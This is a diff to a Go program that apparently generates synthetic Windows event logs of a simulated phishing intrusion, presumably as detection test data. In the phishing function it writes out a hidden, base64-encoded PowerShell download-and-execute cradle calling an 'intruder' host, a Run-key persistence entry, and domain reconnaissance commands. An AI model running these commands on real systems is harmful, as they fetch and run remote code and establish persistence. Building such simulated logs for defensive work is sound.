@@ -1,10 +1,13 @@
 package main
 
 import (
+	"encoding/base64"
+	"encoding/binary"
 	"encoding/json"
 	"fmt"
 	"strings"
 	"time"
+	"unicode/utf16"
 )
 
 // windowsEvents are the Security, System and Sysmon events of three Windows machines, as a collector writes them: one
@@ -129,11 +132,20 @@ func (w *windowsJournal) ordinary() {
 	}
 }
 
+// encoded writes a command as PowerShell's -EncodedCommand takes it: UTF-16LE in base64.
+func encoded(command string) string {
+	var b []byte
+	for _, u := range utf16.Encode([]rune(command)) {
+		b = binary.LittleEndian.AppendUint16(b, u)
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
 // phishing is the document that carla opens.
 func (w *windowsJournal) phishing() {
 	carla := `CORP\carla`
 	w.start(at("18:07:12"), workstation, process{carla, word, `"` + word + `" /n "C:\Users\carla\Downloads\Invoice_20261120.docm"`, explorer})
-	w.start(at("18:07:31"), workstation, process{carla, powershell, `powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANgA2AC8AYQAnACkA`, word})
+	w.start(at("18:07:31"), workstation, process{carla, powershell, `powershell.exe -nop -w hidden -enc ` + encoded("IEX (New-Object Net.WebClient).DownloadString('http://"+intruder+"/a')"), word})
 	w.start(at("18:07:40"), workstation, process{carla, powershell, `powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://` + intruder + `/a')"`, powershell})
 	w.event(at("18:08:02"), workstation, sysmon, 13, fields{"EventType", "SetValue", "UtcTime", "2026-11-20 18:08:02.000", "Image", powershell, "TargetObject", `HKU\S-1-5-21-1004336348-1177238915-682003330-1131\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveSync`, "Details", `powershell -w hidden -f C:\Users\Public\sync.ps1`, "User", carla})
 	for i, c := range []string{"whoami /all", "net user /domain", `net group "Domain Admins" /domain`, "nltest /domain_trusts", "ipconfig /all", "systeminfo"} {
